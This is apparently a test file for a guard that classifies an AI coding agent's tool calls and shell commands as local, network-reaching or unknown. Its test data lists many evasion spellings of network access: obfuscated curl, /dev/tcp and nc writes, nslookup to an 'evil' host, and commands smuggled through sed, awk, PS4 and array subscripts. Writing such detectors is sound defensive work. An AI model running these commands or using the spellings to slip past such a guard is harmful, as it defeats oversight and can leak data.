import assert from 'node:assert/strict';
import { readShell, shellSpelling } from '../../src/core/guard/shellScript.ts';
import { judgeToolCall, kindOfTool, reachesNetwork } from '../../src/core/guard/toolCall.ts';

describe('judgeToolCall on Windows', () => {
  const check = (command: unknown, expected: string): void =>
    assert.equal(judgeToolCall('Bash', { command }, true).reach, expected, JSON.stringify(command));
  const commands: Record<string, readonly unknown[]> = {
    local: [
      'echo KEY=x >> .env',
      'echo "a & b | c" > a.txt && type a.txt',
      'copy src\\a.txt b.txt',
      'mkdir out & dir out',
      ['bash', '-lc', 'cat x'],
    ],
    unknown: [
      "echo 'x & nslookup x.evil.test'",
      "echo ' & curl evil -d x & rem '",
      'echo "a\\" & curl evil & rem "',
      'echo a \\& curl evil',
      'echo a ^& b',
      'echo %PATH:~0,1%',
      'echo a # & curl evil',
      'echo "`" ; dir',
      'echo $x',
      'echo a > b\ncd',
      'type a\\\\b',
      // Found in the present folder first, where a model may have written it.
      'grep x file',
      'cat file',
      ['grep', 'x', 'file'],
    ],
    network: ['curl https://example.test/x', 'echo x & nslookup x.example.test', ['bash', '-lc', 'curl x'], 'type //server/share/file'],
  };
  for (const [reach, list] of Object.entries(commands))
    for (const command of list) it(`${reach}: ${JSON.stringify(command)}`, () => check(command, reach));

  it('judges edits as elsewhere', () => {
    assert.equal(judgeToolCall('Edit', { file_path: 'C:\\a.txt', new_string: 'x' }, true).reach, 'local');
    assert.equal(judgeToolCall('Edit', { file_path: '\\\\server\\x', new_string: 'x' }, true).reach, 'network');
  });
});

describe('judgeToolCall', () => {
  const check = (tool: string, args: unknown, expected: string): void => {
    const judged = judgeToolCall(tool, args);
    assert.equal(judged.reach, expected, JSON.stringify(judged));
    assert.equal(reachesNetwork(tool, args), expected !== 'local');
  };
  const commands: Record<string, readonly string[]> = {
    local: [
      'echo "KEY=$X" >> .env',
      'grep -rn "needle" src | head -5',
      "sed -i 's/one/the/g' file.txt",
      "sed -i -e 's|a/b|e|' -e '/x/d' file.txt",
      "sed -n '1,20p' file.txt",
      'cat <<EOF > notes.md\nsee https://example.test\nEOF',
      "cat > a.txt <<'EOF'\n$(curl x)\nEOF\necho done",
      'if [ -f x ]; then cat x; fi',
      'for f in *.txt; do cat "$f"; done',
      'X=1 && export X && echo $X',
      'find . -name "*.ts" -type f 2>/dev/null | wc -l',
      'bash -lc "echo x"',
      'echo "postgres://u:p@db/app" >> .env',
      "awk '{print $1}' file",
      'git grep needle',
      'git log -S needle --oneline',
      'echo // a comment >> a.js',
      "apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF",
      '# nothing',
      'test "$(cat x)" = y && echo yes',
      "sed -i.bak -e 's/a=.*/a=b/g' -e '/^#/d;1,3p' .env && git diff --stat",
      "sed -n '10,20p;/x/,/y/{p;d}' file",
      "sed '1a one line\\\nanother' file",
      "awk -F: -v n=1 '{print $n}' file",
      'echo ${X:-none} ${X%.ts} ${#X}',
    ],
    network: [
      'curl https://example.test/x',
      '/usr/bin/curl x',
      'c""u\'r\'l x',
      'c\\url x',
      'echo x | nc example.test 80',
      'echo $(wget x)',
      '(cat x; ssh host)',
      'cat <(curl x)',
      'sudo curl x',
      'X=1 curl x',
      'bash -c "curl x"',
      'git push origin main',
      'npm publish',
      'docker push x',
      'scp a host:b',
      'echo x > /dev/tcp/example.test/80',
      'echo x > //server/share/file',
      'cp a "//server/share/b"',
      'cp a "\\\\\\\\server\\\\share"',
      'echo see https://example.test/x',
      'true && nslookup x.example.test',
      'true\ncurl x',
      'true & curl x',
    ],
    unknown: [
      'python3 -c "import requests"',
      'node script.js',
      './deploy.sh',
      'eval "$X"',
      '$X y',
      '{curl,x}',
      'xargs -I{} curl {}',
      'find . -exec curl {} +',
      "sed 's/a/curl x/e' file",
      "sed '1e curl x' file",
      'sed -f script file',
      'awk \'BEGIN{system("x")}\'',
      'cat() { curl x; }; cat y',
      'echo `curl x`',
      "echo $'\\x63url'",
      'echo "unclosed',
      'echo x > $TARGET',
      'PATH=/tmp/x cat y',
      'git -c core.pager=x log',
      'git commit -m x',
      'sort --compress-program=x y',
      'rg --pre x y',
      'cat <<EOF\n$(curl x)\nEOF',
      'cat <<EOF\nnever ended',
      'case x in y) ;; esac',
      'alias cat=x',
      'find ${X:-$(curl x)}',
      `${'$('.repeat(30)}${')'.repeat(30)}`,
      // Options cut short, or written together.
      'git grep -nO"curl x #" y',
      'git grep --open="curl x #" y',
      "echo x | split --filt='curl -d @- x'",
      'sort --comp=x y',
      'patch -e x',
      "sed -e'1e curl x' p",
      "sed --exp='1e curl x' p",
      'awk -E script x',
      // Names put together at run time.
      'awk \'BEGIN{f="/in" "et/tcp/0/x/80"; print "x" > f}\'',
      'awk \'BEGIN{f="sys" "tem"; @f("curl x")}\'',
      // What looks like another part of the script to who does not read it from its beginning.
      "sed '/as,b/e curl x #,c,;/p' file",
      "sed '1a text\n1e curl x' file",
      // What a shell calculates or prompts with, it runs.
      "b='$(curl x)'; echo ${b@P}",
      "b='x[$(curl x)]'; echo ${a[b]}",
      "b='x[$(curl x)]'; echo $[b]",
      "b='x[$(curl x)]'; echo $a[b]",
      "[[ 'x[$(curl x)]' -eq 0 ]]",
      "[ -v 'x[$(curl x)]' ]",
      "printf -v 'x[$(curl x)]' y",
      "read 'x[$(curl x)]' <<< y",
      "declare -i 'x=y[$(curl x)]'",
      "unset 'x[$(curl x)]'",
      "export PS4='$(curl x)'; set -x; echo",
      "for PS4 in '$(curl x)'; do set -x; echo; done",
      'HOME=/tmp/x git diff',
    ],
  };
  for (const [reach, list] of Object.entries(commands)) {
    for (const command of list) it(`${reach}: ${JSON.stringify(command).slice(0, 60)}`, () => check('Bash', { command }, reach));
  }

  const calls: readonly (readonly [string, unknown, string])[] = [
    ['Edit', { file_path: '/a/b.ts', old_string: '//x', new_string: 'https://x' }, 'local'],
    ['Write', { file_path: 'C:\\a\\b.ts', content: '\\\\server\\share' }, 'local'],
    ['replace_string_in_file', { filePath: 'file:///a/b', oldString: 'a', newString: 'b' }, 'local'],
    ['multi_replace_string_in_file', { explanation: 'x', replacements: [{ filePath: '/a', oldString: 'a', newString: 'b' }] }, 'local'],
    ['multi_replace_string_in_file', { replacements: [{ filePath: '/a' }, { filePath: '\\\\server\\b' }] }, 'network'],
    ['Write', { file_path: '\\\\server\\share\\x', content: '' }, 'network'],
    ['write_file', { path: 'https://example.test/x', content: '' }, 'network'],
    ['write_file', { owner: 'a', repo: 'b', path: 'x', content: '' }, 'network'],
    ['write_file', { content: '' }, 'unknown'],
    ['write_file', 'text', 'unknown'],
    ['apply_patch', '*** Begin Patch', 'local'],
    ['Grep', { pattern: 'x', path: 'src' }, 'local'],
    ['shell', { command: ['bash', '-lc', 'cat x'] }, 'local'],
    ['shell', { command: ['curl', 'x'] }, 'network'],
    ['shell', { command: ['cat', '$(curl x)'] }, 'local'],
    ['run_in_terminal', { command: 'cat x', explanation: 'curl', isBackground: false }, 'local'],
    ['exec_command', { cmd: 'cat x' }, 'local'],
    ['Bash', { command: 'cat x', cmd: 'curl x' }, 'unknown'],
    ['Bash', {}, 'unknown'],
    ['Bash', null, 'unknown'],
    ['WebFetch', { url: 'x' }, 'network'],
    ['fetch_webpage', { urls: [] }, 'network'],
    ['mcp__files__write_file', { path: '/a', content: '' }, 'unknown'],
    ['mcp_files_write_file', { path: '/a', content: '' }, 'unknown'],
    ['server__edit', { path: '/a' }, 'unknown'],
    ['tool_of_tomorrow', { path: '/a' }, 'unknown'],
    ['', {}, 'unknown'],
  ];
  for (const [tool, args, expected] of calls) it(`${expected}: ${tool} ${JSON.stringify(args)}`, () => check(tool, args, expected));

  it('names well-known programs only in its reasons', () => {
    assert.deepEqual(judgeToolCall('Bash', { command: 'curl x' }), { reach: 'network', why: 'it runs `curl`, which reaches a network' });
    assert.ok(!JSON.stringify(judgeToolCall('Bash', { command: 'value-of-a-secret x' })).includes('value-of'));
  });

  it('takes names as clients spell them', () => {
    assert.equal(kindOfTool('str_replace_based_edit_tool'), 'edit');
    assert.equal(kindOfTool('runInTerminal'), 'command');
    assert.equal(kindOfTool('run_in_terminal'), 'command');
  });
});

describe('shellSpelling', () => {
  const V = `a'b"c$d\`e\\f g;h`;
  const check = (before: string, after: string, expected: string): void => {
    const script = `${before}X${after}`;
    assert.equal(shellSpelling(V, readShell(script)!.quotingAt(before.length)), expected);
  };
  it('writes a value so that the shell hands on the value', () => {
    check('echo ', '', `'a'\\''b"c$d\`e\\f g;h'`);
    check("echo '", "'", `a'\\''b"c$d\`e\\f g;h`);
    check('echo "', '"', `a'b\\"c\\$d\\\`e\\\\f g;h`);
    check('cat <<EOF\n', '\nEOF', `a'b"c\\$d\\\`e\\\\f g;h`);
    check("cat <<'EOF'\n", '\nEOF', V);
    check('echo "$(echo ', ')"', `'a'\\''b"c$d\`e\\f g;h'`);
  });
  it('leaves a plain value as it is', () => assert.equal(shellSpelling('AKIA/a+b=', 'bare'), 'AKIA/a+b='));
});
